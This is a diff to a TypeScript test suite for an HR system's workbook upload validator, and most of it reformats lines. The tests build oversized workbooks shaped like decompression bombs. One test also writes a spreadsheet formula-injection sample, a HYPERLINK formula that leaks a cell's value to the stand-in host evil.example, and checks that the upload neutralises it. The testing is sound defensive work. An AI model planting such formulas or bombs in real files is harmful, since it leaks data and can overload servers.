@@ -30,7 +30,8 @@ async function deflatedEntry(name: string, parts: Iterable<string>): Promise<Raw
   return { name, method: 8, crc, size, data: Buffer.concat(out) };
 }
 
-const SHEET_START = '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
+const SHEET_START =
+  '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
 const SHEET_END = '</sheetData></worksheet>';
 
 /** A minimal .xlsx (one sheet, shared strings optional) around the given sheet and shared-strings parts. */
@@ -50,7 +51,8 @@ async function handMadeXlsx(sheet: RawZipEntry, sharedStrings?: RawZipEntry): Pr
 
 /** `times` texts, joined a thousand at a time (a deflater written to a million times is slow). */
 function* repeated(times: number, text: (i: number) => string): Generator<string> {
-  for (let from = 0; from < times; from += 1000) yield Array.from({ length: Math.min(1000, times - from) }, (_, i) => text(from + i)).join('');
+  for (let from = 0; from < times; from += 1000)
+    yield Array.from({ length: Math.min(1000, times - from) }, (_, i) => text(from + i)).join('');
 }
 
 const headingRow = `<row r="1"><c r="A1" t="inlineStr"><is><t>Employee Number</t></is></c></row>`;
@@ -97,24 +99,54 @@ describeEachDatabase('uploaded workbooks', (kind) => {
     const honest = await handMadeXlsx(bomb);
     expect(honest.length).toBeLessThan(MiB);
     await expectRefused(honest, 'WORKBOOK_TOO_LARGE', UPLOAD_MESSAGES.workbookTooLarge);
-    await expectRefused(await handMadeXlsx({ ...bomb, size: 4096 }), 'WORKBOOK_TOO_LARGE', UPLOAD_MESSAGES.workbookTooLarge);
+    await expectRefused(
+      await handMadeXlsx({ ...bomb, size: 4096 }),
+      'WORKBOOK_TOO_LARGE',
+      UPLOAD_MESSAGES.workbookTooLarge,
+    );
   });
 
   it('too many rows or shared strings, however small the file, a value beyond the columns read or a cell longer than Excel allows are 400s', async () => {
-    const rows = await handMadeXlsx(await deflatedEntry('xl/worksheets/sheet1.xml', [SHEET_START, headingRow, ...repeated(200_001, (i) => `<row r="${i + 2}"/>`), SHEET_END]));
+    const rows = await handMadeXlsx(
+      await deflatedEntry('xl/worksheets/sheet1.xml', [
+        SHEET_START,
+        headingRow,
+        ...repeated(200_001, (i) => `<row r="${i + 2}"/>`),
+        SHEET_END,
+      ]),
+    );
     await expectRefused(rows, 'WORKBOOK_TOO_LARGE', UPLOAD_MESSAGES.workbookTooLarge);
 
-    const strings = await deflatedEntry('xl/sharedStrings.xml', ['<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">', ...repeated(1_000_001, () => '<si><t>a</t></si>'), '</sst>']);
-    const sharedStrings = await handMadeXlsx(await deflatedEntry('xl/worksheets/sheet1.xml', [SHEET_START, headingRow, SHEET_END]), strings);
+    const strings = await deflatedEntry('xl/sharedStrings.xml', [
+      '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">',
+      ...repeated(1_000_001, () => '<si><t>a</t></si>'),
+      '</sst>',
+    ]);
+    const sharedStrings = await handMadeXlsx(
+      await deflatedEntry('xl/worksheets/sheet1.xml', [SHEET_START, headingRow, SHEET_END]),
+      strings,
+    );
     await expectRefused(sharedStrings, 'WORKBOOK_TOO_LARGE', UPLOAD_MESSAGES.workbookTooLarge);
 
-    const wide = Array.from({ length: 1_001 }, (_, i) => (i === 0 ? 'Employee Number' : i === 1_000 ? 'far right' : ''));
+    const wide = Array.from({ length: 1_001 }, (_, i) =>
+      i === 0 ? 'Employee Number' : i === 1_000 ? 'far right' : '',
+    );
     await expectRefused(await xlsxFile(wide, [['EMP0006']]), 'TOO_MANY_COLUMNS', UPLOAD_MESSAGES.tooManyColumns(1_000));
-    await expectRefused(await xlsxFile(['Employee Number'], [['EMP0006'], ['x'.repeat(32_768)]]), 'CELL_TOO_LONG', UPLOAD_MESSAGES.cellTooLong(3, 32_767));
+    await expectRefused(
+      await xlsxFile(['Employee Number'], [['EMP0006'], ['x'.repeat(32_768)]]),
+      'CELL_TOO_LONG',
+      UPLOAD_MESSAGES.cellTooLong(3, 32_767),
+    );
   });
 
   it('a sheet whose cells lack their address, or a damaged workbook, is a 400', async () => {
-    const noAddress = await handMadeXlsx(await deflatedEntry('xl/worksheets/sheet1.xml', [SHEET_START, '<row r="1"><c t="inlineStr"><is><t>Employee Number</t></is></c></row><row r="2"><c t="inlineStr"><is><t>EMP0006</t></is></c></row>', SHEET_END]));
+    const noAddress = await handMadeXlsx(
+      await deflatedEntry('xl/worksheets/sheet1.xml', [
+        SHEET_START,
+        '<row r="1"><c t="inlineStr"><is><t>Employee Number</t></is></c></row><row r="2"><c t="inlineStr"><is><t>EMP0006</t></is></c></row>',
+        SHEET_END,
+      ]),
+    );
     await expectRefused(noAddress, 'WORKBOOK_UNREADABLE', UPLOAD_MESSAGES.workbookUnreadable);
     const good = await xlsxFile(['Employee Number'], [['EMP0006']]);
     const damaged = Buffer.from(good);
@@ -126,14 +158,30 @@ describeEachDatabase('uploaded workbooks', (kind) => {
     const book = new ExcelJS.Workbook();
     const sheet = book.addWorksheet('Joiners');
     sheet.addRow(EMPLOYEE_HEADINGS);
-    sheet.addRow(EMPLOYEE_HEADINGS.map((heading) => (heading === 'First Name' ? { formula: 'HYPERLINK("https://evil.example/?leak="&B2,"Asha")', result: 'Asha' } : heading === 'Last Name' ? '=1+2' : heading === 'Middle Name' ? '@SUM(A1)' : '')));
+    sheet.addRow(
+      EMPLOYEE_HEADINGS.map((heading) =>
+        heading === 'First Name'
+          ? { formula: 'HYPERLINK("https://evil.example/?leak="&B2,"Asha")', result: 'Asha' }
+          : heading === 'Last Name'
+            ? '=1+2'
+            : heading === 'Middle Name'
+              ? '@SUM(A1)'
+              : '',
+      ),
+    );
     const upload = new Uint8Array(await book.xlsx.writeBuffer());
     const reply = await sendFile(t.app, '/api/hrms/hris/employee/bulk-upload/validate/workbook', hr, upload);
     expect(reply.statusCode, reply.body.slice(0, 200)).toBe(200);
     const annotated = (await readWorkbook(reply.rawPayload)).worksheets[0]!;
     const column = (heading: string) => EMPLOYEE_HEADINGS.indexOf(heading) + 1;
-    const cells = [column('First Name'), column('Last Name'), column('Middle Name')].map((c) => annotated.getRow(2).getCell(c));
-    expect(cells.map((cell) => cell.type)).toEqual([ExcelJS.ValueType.String, ExcelJS.ValueType.String, ExcelJS.ValueType.String]);
+    const cells = [column('First Name'), column('Last Name'), column('Middle Name')].map((c) =>
+      annotated.getRow(2).getCell(c),
+    );
+    expect(cells.map((cell) => cell.type)).toEqual([
+      ExcelJS.ValueType.String,
+      ExcelJS.ValueType.String,
+      ExcelJS.ValueType.String,
+    ]);
     expect(cells.map((cell) => cell.value)).toEqual(['Asha', "'=1+2", "'@SUM(A1)"]);
     annotated.eachRow((row) => row.eachCell((cell) => expect(cell.formula, cell.address).toBeUndefined()));
     // The errors are still marked on the rows they belong to.
